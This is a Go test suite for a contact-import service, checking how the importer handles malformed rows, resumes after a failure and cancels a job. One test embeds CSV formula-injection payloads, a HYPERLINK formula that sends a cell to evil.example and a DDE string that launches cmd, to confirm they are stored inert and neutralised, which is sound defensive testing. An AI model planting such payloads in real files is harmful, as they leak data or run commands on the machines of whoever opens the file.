package sqlstore

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/switchboard-oss/switchboard/contacts"
)

// errorReport reads an import's error report back as records.
func (f *fixture) errorReport(t *testing.T, id int64) [][]string {
	t.Helper()
	var buf bytes.Buffer
	if err := f.svc.WriteImportErrors(context.Background(), f.project, id, &buf); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("report is not CSV: %v\n%s", err, buf.String())
	}
	return recs
}

// TestImportHostileRows feeds rows built to break an importer: each gets a
// clear error or a safe result, and only the rows reported as imported are
// written.
func TestImportHostileRows(t *testing.T) {
	tests := []struct {
		name   string
		file   string
		counts contacts.ImportCounts
		reason string // in the report
	}{
		{"unterminated quote", "name,email\nAnn,a@example.com\n\"Ben,b@example.com\nCid,c@example.com\n",
			contacts.ImportCounts{Rows: 2, Created: 1, Failed: 1}, "a quoted field is never closed; nothing from line 3 on could be read"},
		{"10 MiB single field", "name,notes\nAnn,x\nBen,\"" + strings.Repeat("y", 10<<20) + "\"\nCid,z\n",
			contacts.ImportCounts{Rows: 3, Created: 2, Failed: 1}, "the row is longer than 1048576 bytes"},
		{"100,000 cells in a row", "name,email\nAnn,a@example.com\n" + strings.Repeat("x,", 100_000) + "\nCid,c@example.com\n",
			contacts.ImportCounts{Rows: 3, Created: 2, Failed: 1}, "the row has more than 1000 cells"},
		{"more cells than the header", "name,email\nAnn,a@example.com,extra\n",
			contacts.ImportCounts{Rows: 1, Failed: 1}, "the row has more cells than the header"},
		{"control characters", "name,email\n\"A\x01nn\",a@example.com\n",
			contacts.ImportCounts{Rows: 1, Failed: 1}, "contains control characters"},
		{"overlong name", "name\n" + strings.Repeat("n", 300) + "\n",
			contacts.ImportCounts{Rows: 1, Failed: 1}, "is too long"},
		{"no identifier", "name,company\n,Acme\n",
			contacts.ImportCounts{Rows: 1, Failed: 1}, "a contact needs a name"},
		{"zero character in UTF-16", utf16LE("name,email\nA\x00nn,a@example.com\n"),
			contacts.ImportCounts{Rows: 1, Failed: 1}, "contains control characters"},
	}
	eachStore(t, func(t *testing.T, db *DB) {
		base := newFixture(t, db)
		for i, tc := range tests {
			t.Run(tc.name, func(t *testing.T) {
				f := &fixture{}
				*f = *base
				p, err := f.svc.CreateProject(context.Background(), "hostile-"+string(rune('a'+i)))
				if err != nil {
					t.Fatal(err)
				}
				f.project = p.ID
				imp := f.importText(t, tc.file, contacts.ImportOptions{})
				if imp.Counts != tc.counts {
					t.Fatalf("counts %+v, want %+v", imp.Counts, tc.counts)
				}
				if n := len(f.all(t)); n != imp.Counts.Created {
					t.Fatalf("%d contacts written, %d reported", n, imp.Counts.Created)
				}
				report := f.errorReport(t, imp.ID)
				if len(report) < 2 || !strings.Contains(report[1][5], tc.reason) {
					t.Fatalf("report %q, want a reason with %q", report, tc.reason)
				}
			})
		}
	})
}

// utf16LE encodes s as UTF-16LE with a byte-order mark.
func utf16LE(s string) string {
	b := []byte{0xFF, 0xFE}
	for _, r := range s {
		b = append(b, byte(r), byte(r>>8))
	}
	return string(b)
}

// A formula in a cell is data: stored as typed, never evaluated, and
// neutralised when it goes back out in a CSV report.
func TestImportFormulaCells(t *testing.T) {
	f := newFixture(t, OpenTest(t))
	formula := `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	imp := f.importText(t, "name,email,company\n\""+strings.ReplaceAll(formula, `"`, `""`)+"\",f@example.com,@SUM(1)\nBad,\"=cmd|' /C calc'!A0\",x\n",
		contacts.ImportOptions{})
	if want := (contacts.ImportCounts{Rows: 2, Created: 1, Failed: 1}); imp.Counts != want {
		t.Fatalf("counts %+v", imp.Counts)
	}
	c := f.byEmail(t, "f@example.com")
	if c.FirstName != formula || c.Company != "@SUM(1)" {
		t.Fatalf("stored %q %q %q", c.FirstName, c.LastName, c.Company)
	}
	report := f.errorReport(t, imp.ID)
	if got := report[1][4]; got != "'=cmd|' /C calc'!A0" {
		t.Fatalf("report value %q is not neutralised", got)
	}
}

// raceStore hides the first batch's email matches from the plan, as if
// another writer had created those contacts between the lookup and the
// insert: the insert then clashes on the unique index.
type raceStore struct {
	*DB
	hidden bool
}

func (s *raceStore) CommitImportBatch(ctx context.Context, b *contacts.ImportBatch) (bool, error) {
	plan := b.Plan
	b.Plan = func(found *contacts.ImportMatches) (*contacts.ImportPlan, error) {
		if !s.hidden {
			s.hidden = true
			found.Email = map[string]int64{}
		}
		return plan(found)
	}
	return s.DB.CommitImportBatch(ctx, b)
}

func TestImportClashRetries(t *testing.T) {
	eachStore(t, func(t *testing.T, db *DB) {
		f := newFixture(t, db)
		f.create(t, contacts.ContactInput{Name: str("Taken"), Email: str("taken@example.com")})
		svc := contacts.NewService(contacts.Config{Store: &raceStore{DB: db}, Clock: func() time.Time { return f.now }})
		defer svc.Close()
		path := filepath.Join(t.TempDir(), "r.csv")
		os.WriteFile(path, []byte("email,name\nnew1@example.com,New One\ntaken@example.com,Taken Again\nnew2@example.com,New Two\n"), 0o600)
		imp, err := svc.RunImport(context.Background(), f.actor, f.project, contacts.ImportFile{Name: "r.csv", Path: path}, contacts.ImportOptions{}, nil)
		if err != nil {
			t.Fatal(err)
		}
		if want := (contacts.ImportCounts{Rows: 3, Created: 2, SkippedExisting: 1}); imp.Counts != want || imp.Status != contacts.JobDone {
			t.Fatalf("counts %+v %s %s, want %+v", imp.Counts, imp.Status, imp.Error, want)
		}
		if n := len(f.all(t)); n != 3 {
			t.Fatalf("%d contacts", n)
		}
	})
}

// failStore fails the n-th batch commit, as a crash or a lost database
// connection would: that batch's transaction writes nothing.
type failStore struct {
	*DB
	n, calls int
}

var errLostConnection = errors.New("connection lost")

func (s *failStore) CommitImportBatch(ctx context.Context, b *contacts.ImportBatch) (bool, error) {
	s.calls++
	if s.calls == s.n {
		return false, errLostConnection
	}
	return s.DB.CommitImportBatch(ctx, b)
}

// bigFile writes n rows, every tenth a duplicate of the row before and
// every 25th invalid.
func bigFile(t *testing.T, n int) string {
	t.Helper()
	var b strings.Builder
	b.WriteString("email,name,phone\n")
	for i := range n {
		switch {
		case i%25 == 24:
			b.WriteString("not-an-email,Broken Row,\n")
		case i%10 == 9:
			b.WriteString("user" + itoa(int64(i-1)) + "@example.com,Dup Row,\n")
		default:
			b.WriteString("user" + itoa(int64(i)) + "@example.com,User " + itoa(int64(i)) + ",\n")
		}
	}
	path := filepath.Join(t.TempDir(), "big.csv")
	if err := os.WriteFile(path, []byte(b.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// TestImportFailureThenResume: a batch failing mid-import leaves the
// earlier batches committed and counted, nothing of the failed one, and
// the import failed; resuming goes on from the last committed row and
// ends with the same contacts and counts as an uninterrupted run.
func TestImportFailureThenResume(t *testing.T) {
	eachStore(t, func(t *testing.T, db *DB) {
		f := newFixture(t, db)
		const n = 5000 // three batches
		path := bigFile(t, n)
		fs := &failStore{DB: db, n: 2}
		svc := contacts.NewService(contacts.Config{Store: fs, Clock: func() time.Time { return f.now }})
		defer svc.Close()
		imp, err := svc.RunImport(context.Background(), f.actor, f.project, contacts.ImportFile{Name: "big.csv", Path: path}, contacts.ImportOptions{}, nil)
		if err != nil {
			t.Fatal(err)
		}
		checkCounts(t, imp)
		if imp.Status != contacts.JobFailed || !strings.Contains(imp.Error, "connection lost") || imp.Counts.Rows != 2000 {
			t.Fatalf("after the failure: %s %q %+v", imp.Status, imp.Error, imp.Counts)
		}
		stored, _ := f.svc.GetImport(context.Background(), f.project, imp.ID)
		if stored.Counts != imp.Counts || stored.Status != contacts.JobFailed {
			t.Fatalf("stored %+v %s", stored.Counts, stored.Status)
		}
		if got := len(f.all(t)); got != imp.Counts.Created {
			t.Fatalf("%d contacts written, %d counted", got, imp.Counts.Created)
		}
		resumed, err := svc.RunResumedImport(context.Background(), f.actor, f.project, imp.ID, false, nil)
		if err != nil {
			t.Fatal(err)
		}
		checkCounts(t, resumed)
		// 5000 rows: 200 invalid, 400 duplicates (every tenth, less the
		// 100 of those that are also invalid), the rest created.
		want := contacts.ImportCounts{Rows: n, Created: n - 200 - 400, SkippedInFile: 400, Failed: 200}
		if resumed.Status != contacts.JobDone || resumed.Counts != want {
			t.Fatalf("resumed %s %+v, want %+v", resumed.Status, resumed.Counts, want)
		}
		if got := len(f.all(t)); got != want.Created {
			t.Fatalf("%d contacts after resume, want %d", got, want.Created)
		}
		if resumed.ErrorRows != 200 {
			t.Fatalf("%d error records, want 200", resumed.ErrorRows)
		}
		if _, err := svc.ResumeImport(context.Background(), f.actor, f.project, imp.ID); !errors.Is(err, contacts.ErrConflict) {
			t.Fatalf("resuming a done import: %v", err)
		}
	})
}

// TestImportCancel stops a background import after a batch: its rows stay,
// counted; it ends cancelled; a cancelled import cannot be cancelled again.
func TestImportCancel(t *testing.T) {
	eachStore(t, func(t *testing.T, db *DB) {
		f := newFixture(t, db)
		path := bigFile(t, 30_000)
		imp, err := f.svc.StartImport(context.Background(), f.actor, f.project, contacts.ImportFile{Name: "big.csv", Path: path}, contacts.ImportOptions{})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.svc.CancelImport(context.Background(), f.actor, f.project, imp.ID); err != nil {
			t.Fatal(err)
		}
		var got *contacts.Import
		for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(20 * time.Millisecond) {
			got, err = f.svc.GetImport(context.Background(), f.project, imp.ID)
			if err != nil {
				t.Fatal(err)
			}
			if got.Status != contacts.JobRunning || time.Now().After(deadline) {
				break
			}
		}
		checkCounts(t, got)
		if got.Status != contacts.ImportCancelled || got.Counts.Rows == 0 || got.Counts.Rows >= 30_000 {
			t.Fatalf("cancelled import: %s %+v", got.Status, got.Counts)
		}
		if n := len(f.all(t)); n != got.Counts.Created {
			t.Fatalf("%d contacts, %d counted", n, got.Counts.Created)
		}
		if _, err := f.svc.CancelImport(context.Background(), f.actor, f.project, imp.ID); !errors.Is(err, contacts.ErrConflict) {
			t.Fatalf("second cancel: %v", err)
		}
		job, _ := f.svc.GetJob(context.Background(), f.project, imp.ID)
		if job.Status != contacts.JobFailed || job.Total != got.Counts.Rows {
			t.Fatalf("job %+v", job)
		}
	})
}
